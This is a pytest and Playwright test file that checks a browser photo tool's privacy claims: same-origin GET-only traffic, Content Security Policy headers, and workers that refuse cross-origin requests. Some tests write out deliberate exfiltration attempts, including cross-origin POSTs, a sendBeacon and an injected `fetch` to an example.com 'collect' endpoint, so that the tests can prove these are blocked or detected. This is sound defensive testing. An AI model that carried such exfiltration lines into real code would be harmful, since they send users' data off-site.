# SPDX-License-Identifier: AGPL-3.0-or-later
"""The privacy claim, as the browser's own network log and a listening stranger see it."""

import json
import os
import shutil
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, expect

from e2e.enginespage import EnginesPage
from e2e.madesite import MadeSite
from e2e.workbench import Workbench
from nets import heavy
from sitebuild import browser as chromium
from sitebuild import headers
from sitebuild.serve import Server

pytestmark = pytest.mark.usefixtures("site")


def requests_of(netlog: Path) -> list[dict[str, Any]]:
    """Every URL request in a Chromium network log: pages, workers and the service worker alike."""
    text = netlog.read_text("utf-8").rstrip()
    log = json.loads(text if text.endswith("}") else text.rstrip(",") + "]}")
    kinds = {number: name for name, number in log["constants"]["logEventTypes"].items()}
    return [
        event["params"]
        for event in log["events"]
        if kinds[event["type"]] == "URL_REQUEST_START_JOB" and "url" in event.get("params", {})
    ]


def test_a_job_makes_only_same_origin_gets_without_a_body(
    browser: Browser, site: Path, photos: dict[str, Path], tmp_path: Path
) -> None:
    """A browser of its own, so that its log holds this visit and nothing else."""
    netlog = tmp_path / "netlog.json"
    flags = [*chromium.FLAGS, f"--log-net-log={netlog}", "--net-log-capture-mode=Everything"]
    path = os.environ.get("OFFCUT_CHROMIUM") or chromium.system()
    with Server(site) as server, browser.browser_type.launch(executable_path=path, args=flags) as logged:
        page = logged.new_context(accept_downloads=True).new_page()
        workbench = Workbench(page, server.url).open()
        workbench.wait_engine()
        workbench.choose(photos["astronaut"], photos["coffee"])
        page.wait_for_selector(".film-item[data-state=done] >> nth=1", timeout=120_000)
        workbench.download()
        sent = page.locator("offcut-privacy button").inner_text()
    ours = [
        request
        for request in requests_of(netlog)
        if request["url"].startswith(server.origin) or server.origin in str(request.get("initiator"))
    ]
    assert len(ours) > 30
    assert {request["method"] for request in ours} == {"GET"}
    foreign = [request["url"] for request in ours if not request["url"].startswith((server.url, "blob:", "data:"))]
    assert foreign == []
    assert not any("upload_id" in request and request["upload_id"] != "-1" for request in ours)
    assert all(size == 0 for _, _, size in server.log)
    assert {method for method, _, _ in server.log} == {"GET"}
    assert sent == "0 bytes sent"


def test_fetching_importing_and_checking_engines_makes_only_same_origin_gets(
    browser: Browser, site: Path, tmp_path: Path
) -> None:
    netlog = tmp_path / "netlog.json"
    flags = [*chromium.FLAGS, f"--log-net-log={netlog}", "--net-log-capture-mode=Everything"]
    path = os.environ.get("OFFCUT_CHROMIUM") or chromium.system()
    known, unknown = heavy(seed=1), tmp_path / "unknown.onnx"
    unknown.write_bytes(heavy(seed=2))
    (tmp_path / "known.onnx").write_bytes(known)
    made = MadeSite(site, tmp_path / "dist")
    made.model("main", heavy(), (64,), plan="quick")
    made.other("known", known)
    with Server(made.write("quick")) as server, browser.browser_type.launch(executable_path=path, args=flags) as logged:
        page = logged.new_context().new_page()
        engines = EnginesPage(page, server.url).open().press("main", "Get").wait("main", "stored")
        engines.give(tmp_path / "known.onnx").wait_import("done")
        engines.give(unknown).wait_import("asking")
        page.get_by_role("button", name="Import it").click()
        engines.wait_import("done")
        engines.receipt.get_by_role("button", name="Check everything").click()
        engines.receipt.get_by_role("button", name="Fetch what is missing").click()
        expect(engines.receipt).to_contain_text("Everything is here.", timeout=60_000)
    ours = [
        request
        for request in requests_of(netlog)
        if request["url"].startswith(server.origin) or server.origin in str(request.get("initiator"))
    ]
    assert len(ours) > 30
    assert {request["method"] for request in ours} == {"GET"}
    assert [one["url"] for one in ours if not one["url"].startswith((server.url, "blob:", "data:"))] == []
    assert not any("upload_id" in request and request["upload_id"] != "-1" for request in ours)
    assert all("?" not in path and size == 0 for _, path, size in server.log)


@pytest.mark.parametrize("sends_headers", [True, False], ids=["with headers", "bare host"])
def test_page_and_workers_refuse_another_origin(
    page: Page, site: Path, tmp_path: Path, allow_console: list[str], sends_headers: bool
) -> None:
    allow_console += ["Content Security Policy", "Fetch API cannot load", "violates", "Refused to"]
    (tmp_path / "secret.txt").write_text("secret")
    attempt = """async (url) => {
      const tries = {
        fetch: () => fetch(url, {mode: "no-cors", method: "POST", body: "pixels"}),
        get: () => fetch(url, {mode: "no-cors"}),
        script: () => import(url),
      };
      const outcome = {};
      for (const [name, attempt] of Object.entries(tries))
        outcome[name] = await attempt().then(() => "allowed", () => "refused");
      return outcome;
    }"""
    with Server(tmp_path) as stranger, Server(site, headers=sends_headers) as server:
        workbench = Workbench(page, server.url).open()
        workbench.wait_engine()
        places: dict[str, Any] = {
            "page": page,
            "python": workbench.worker("python"),
            "inference": workbench.worker("inference"),
        }
        found = {name: place.evaluate(attempt, stranger.url + "secret.txt") for name, place in places.items()}
        for name, outcome in found.items():
            assert set(outcome.values()) == {"refused"}, f"{name}: {outcome}"
        beacon = page.evaluate("(url) => navigator.sendBeacon(url, 'pixels')", stranger.url)
        image = page.evaluate(
            """(url) => new Promise((resolve) => {
              const image = new Image();
              image.onload = () => resolve("allowed");
              image.onerror = () => resolve("refused");
              image.src = url;
            })""",
            stranger.url + "pixel.png",
        )
        assert image == "refused"
        page.wait_for_timeout(300)
        assert stranger.log == [], f"the stranger heard {stranger.log} (sendBeacon said {beacon})"


def test_no_code_can_be_made_from_text(page: Page, site: Path, allow_console: list[str]) -> None:
    allow_console += ["Content Security Policy", "violates", "Refused to"]
    with Server(site) as server:
        workbench = Workbench(page, server.url).open()
        workbench.wait_engine()
        for place in (page, workbench.worker("python"), workbench.worker("inference")):
            # setTimeout takes the text later and outside the driver's own evaluation.
            assert (
                place.evaluate(
                    """() => new Promise((resolve) => {
                      globalThis.leaked = false;
                      try { setTimeout("globalThis.leaked = true", 0); } catch {}
                      setTimeout(() => resolve(globalThis.leaked), 100);
                    })"""
                )
                is False
            )


@pytest.mark.parametrize("address", ["", "licences/", "sw.js", "r/{release}/workers/python.js", "r/{release}/main.js"])
def test_every_response_carries_the_policy(site: Path, page: Page, address: str) -> None:
    release = json.loads((site / "release.json").read_text("utf-8"))["release"]
    with Server(site) as server:
        response = page.request.get(server.url + address.format(release=release))
    assert response.ok
    for name, value in headers.security().items():
        assert response.headers[name.lower()] == value


def test_the_policy_allows_this_site_alone() -> None:
    policy = dict(part.strip().partition(" ")[::2] for part in headers.security()["Content-Security-Policy"].split(";"))
    assert policy["default-src"] == "'none'"
    assert policy["connect-src"] == "'self'"
    assert "'unsafe-eval'" not in policy["script-src"].split()
    assert "'unsafe-inline'" not in str(policy)
    assert "http" not in str(policy)


def test_pages_carry_the_policy_themselves(site: Path) -> None:
    pages = [path for path in site.rglob("*.html") if "vendor" not in path.parts]
    assert len(pages) >= 4
    for path in pages:
        text = path.read_text("utf-8")
        assert 'http-equiv="Content-Security-Policy"' in text, path
        assert "<style" not in text, path
        assert "<script>" not in text, path


def test_removing_a_worker_script_from_the_host_leaves_nothing_foreign(site: Path, tmp_path: Path) -> None:
    """No file of ours names another host to fetch from; links that a person may follow are the only ones."""
    from sitebuild import licences, origins
    from sitebuild.layout import Layout

    links = licences.links(Layout.here())
    copy = tmp_path / "dist"
    shutil.copytree(site, copy)
    assert origins.findings(copy, links) == []
    [script] = copy.glob("r/*/main.js")
    script.write_text(script.read_text("utf-8") + '\nfetch("https://example.com/collect");', "utf-8")
    assert origins.findings(copy, links) != []
